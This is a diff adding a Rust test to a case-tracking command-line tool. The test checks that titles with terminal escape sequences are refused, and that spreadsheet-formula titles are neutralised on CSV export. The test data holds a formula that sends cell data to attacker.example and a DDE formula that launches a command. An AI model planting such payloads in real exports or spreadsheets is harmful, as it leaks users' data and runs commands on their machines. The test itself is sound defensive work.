@@ -819,3 +819,48 @@ fn a_coordinator_routes_merges_forwards_sees_it_overdue_escalates_and_closes() {
         assert!(history.contains(what), "{what} in {history}");
     }
 }
+
+/// A title that would rewrite the terminal is refused in words; one a spreadsheet would run as
+/// a formula is kept as typed and exported as text (OWASP's rule, `core::spreadsheet::inert`).
+#[test]
+fn outside_text_cannot_reach_the_terminal_raw_nor_run_in_a_spreadsheet() {
+    let dir = tempfile::tempdir().expect("dir");
+    init(dir.path());
+    let with_title = |title: &'static str| -> Vec<&'static str> {
+        let mut args = ADD.to_vec();
+        let at = args.iter().position(|a| *a == "--title").expect("title") + 1;
+        args[at] = title;
+        args
+    };
+    let why = refused(
+        dir.path(),
+        &with_title("\u{1b}]0;owned\u{7}\u{1b}[2K\rA case revoked"),
+    );
+    assert_eq!(
+        why,
+        "error: title: holds an invisible control character (character 1 of the text); type it again without it, on one line\n"
+    );
+    assert_eq!(total(dir.path()), 0, "nothing stored");
+    let formulas = [
+        "=HYPERLINK(\"http://attacker.example/?leak=\"&A2&B2,\"Details\")",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+    ];
+    for title in formulas {
+        ok(dir.path(), &with_title(title));
+    }
+    let csv_path = dir.path().join("cases.csv");
+    ok(
+        dir.path(),
+        &["export", "csv", "--out", csv_path.to_str().expect("path")],
+    );
+    let mut rows = csv::Reader::from_path(&csv_path).expect("csv");
+    let titles: Vec<String> = rows
+        .deserialize::<std::collections::HashMap<String, String>>()
+        .map(|r| r.expect("row")["title"].clone())
+        .collect();
+    let mut expected: Vec<String> = formulas.iter().map(|t| format!("'{t}")).collect();
+    let mut got = titles.clone();
+    expected.sort();
+    got.sort();
+    assert_eq!(got, expected);
+}
